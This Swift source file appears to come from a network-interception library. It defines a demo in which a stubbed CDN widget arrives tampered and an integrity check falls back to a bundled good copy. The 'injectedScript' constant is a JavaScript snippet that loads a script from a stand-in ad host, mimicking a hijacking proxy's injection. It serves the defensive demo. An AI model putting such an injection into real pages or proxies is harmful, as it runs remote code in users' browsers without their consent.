import Foundation
import NetTapCore
import NetTapFiles
import NetTapIntegrity
import NetTapMocking

#if canImport(FoundationNetworking)
import FoundationNetworking
#endif

extension DemoCommand {
    /// The URL prefix the bundled web pages are served at: `http://localhost:1000/`.
    package static let webPrefix = "http://localhost:1000/"

    /// The help widget the bundled page loads from its CDN; its file name carries the SHA-256 of the good copy.
    package static let widgetURL =
        "https://cdn.nettap.example/js/widget.c27c4e930c55513c16028a565f97cb4d7137b6a975437098f4197382236978c2.js"

    /// What the tampered widget gets appended on its way: an ad injection, as a hijacking proxy would add it.
    package static let injectedScript =
        "\n;(function(){var s=document.createElement('script');"
        + "s.src='http://ads.example/inject.js';document.head.appendChild(s);})();\n"

    /// The requests of the local files pass, all sent by the async caller.
    package static let localFileSteps: [Step] = [
        Step(caller: .async, method: "GET", url: webPrefix),
        Step(caller: .async, method: "GET", url: webPrefix + "style.css"),
        Step(caller: .async, method: "GET", url: webPrefix + "app.js"),
        Step(caller: .async, method: "GET", url: webPrefix + "docs"),
        Step(caller: .async, method: "GET", url: webPrefix + "missing.png"),
        Step(caller: .async, method: "GET", url: widgetURL),
    ]

    /// The outcome of the local files pass.
    package struct LocalFilesResult: Sendable {
        /// One row per step of ``localFileSteps``.
        package var rows: [Row]
        /// For each row, the bytes a correct answer has: the file on disk (its index for a directory, the
        /// bundled copy for the widget), or `nil` for the 404.
        package var expected: [Data?]
        /// The widget's bytes as the tampering stub sent them.
        package var tampered: Data

        /// Whether every row with an expected body received exactly it, and the 404 was a 404.
        package var isCorrect: Bool {
            zip(rows, expected).allSatisfy { row, expected in
                guard let expected else { return row.statusCode == 404 }
                return row.statusCode == 200 && row.data == expected
            }
        }
    }

    /// The bundled folder of a resource name (`web` or `web-fallback`).
    static func bundledFolder(_ name: String) throws(CLIError) -> URL {
        guard let url = Bundle.module.url(forResource: name, withExtension: nil) else {
            throw CLIError.failure(command: "demo", input: name, message: "the bundled folder is missing")
        }
        return url
    }

    /// Serves the bundled web pages from ``webPrefix`` with a `LocalFilesHandler`, and answers the CDN widget with
    /// a tampered copy (a `MockHandler` stub standing for a hijacking network) behind an `IntegrityHandler` that
    /// checks the SHA-256 in the widget's file name and falls back to the bundled good copy.
    ///
    /// - Parameter interceptor: The interceptor to send through; its handlers are replaced.
    /// - Returns: The rows and what each should have received.
    /// - Throws: ``CLIError`` (exit 1) when a bundled folder or file is missing.
    package static func runLocalFiles(through interceptor: NetTapInterceptor) async throws(CLIError) -> LocalFilesResult
    {
        let web = try bundledFolder("web")
        let fallback = try bundledFolder("web-fallback")
        let widgetPath = URL(string: widgetURL)?.path ?? "/"
        let good: Data
        do {
            good = try Data(contentsOf: fallback.appendingPathComponent(widgetPath))
        } catch {
            throw CLIError.failure(command: "demo", input: widgetPath, message: "the bundled widget is missing")
        }
        let tampered = good + Data(injectedScript.utf8)
        let mount: FileMount
        do {
            mount = try FileMount(prefix: webPrefix, directory: web)
        } catch {
            throw CLIError.failure(command: "demo", input: webPrefix, message: "\(error)")
        }
        let cdn = Stub(
            "cdn widget (tampered on the way)",
            matching: .host("cdn.nettap.example"),
            response: .data(tampered, headers: ["Content-Type": "text/javascript"])
        )
        let integrity = IntegrityRule(
            .host("cdn.nettap.example"),
            expect: .fileName,
            onMismatch: .fallback(.directory(fallback))
        )
        interceptor.handlers = [
            IntegrityHandler(rules: [integrity]),
            LocalFilesHandler(mounts: [mount]),
            MockHandler(mocks: MockSet(stubs: [cdn]), unmatched: .fail),
        ]
        var rows: [Row] = []
        for step in localFileSteps {
            rows.append(await send(step, through: interceptor))
        }
        let read = { (path: String) in try? Data(contentsOf: web.appendingPathComponent(path)) }
        let expected: [Data?] = [
            read("index.html"), read("style.css"), read("app.js"), read("docs/index.html"), nil, good,
        ]
        return LocalFilesResult(rows: rows, expected: expected, tampered: tampered)
    }

    /// The local files table: URL, status, bytes, content type and who answered.
    ///
    /// - Parameter result: The pass's outcome.
    /// - Returns: Lines ending with a newline.
    package static func localFilesTable(_ result: LocalFilesResult) -> String {
        var table = TextTable(
            headings: ["URL", "STATUS", "BYTES", "CONTENT-TYPE", "ANSWERED BY"],
            alignments: [.left, .right, .right, .left, .left]
        )
        for row in result.rows {
            let url = row.url.count > 52 ? String(row.url.prefix(36)) + "…" + String(row.url.suffix(15)) : row.url
            table.rows.append([
                url,
                row.statusCode.map { "\($0)" } ?? "ERR",
                "\(row.byteCount)",
                row.transaction?.response?.headers["Content-Type"] ?? "-",
                row.answeredBy,
            ])
        }
        return table.rendered
    }

    /// The lines telling what integrity found on the widget, from its finding.
    ///
    /// - Parameter result: The pass's outcome.
    /// - Returns: Lines ending with a newline.
    package static func integrityLines(_ result: LocalFilesResult) -> String {
        guard let row = result.rows.last, let finding = row.transaction?.findings.first else {
            return "Integrity: no finding on the widget (it should have had one)\n"
        }
        let served = row.data == result.tampered ? "the TAMPERED copy" : "the bundled good copy"
        let sameAsBundled = result.expected.last.map { $0 == row.data } ?? false
        let detail = { (key: String) in finding.details[key] ?? "-" }
        var redirects = ""
        for row in result.rows {
            guard let hop = row.transaction?.redirects.first, let final = row.transaction?.response else { continue }
            redirects +=
                "Redirect: \(hop.url.absoluteString) answered \(hop.statusCode); NetTap followed it to "
                + "\(final.url.absoluteString) (its index.html).\n"
        }
        return redirects
            + "Integrity: the widget arrived with \(result.tampered.count) bytes (an ad injection appended); its "
            + "SHA-256 differs from the one in\nits file name, so NetTap served \(served) (\(row.byteCount) bytes, "
            + "same as bundled: \(sameAsBundled ? "yes" : "no")). The finding on the transaction:\n"
            + "  [\(finding.severity.rawValue)] \(finding.rule) at \(finding.location ?? "-"): action \(detail("action"))\n"
            + "  expected \(detail("expected"))\n"
            + "  actual   \(detail("actual"))\n"
    }
}
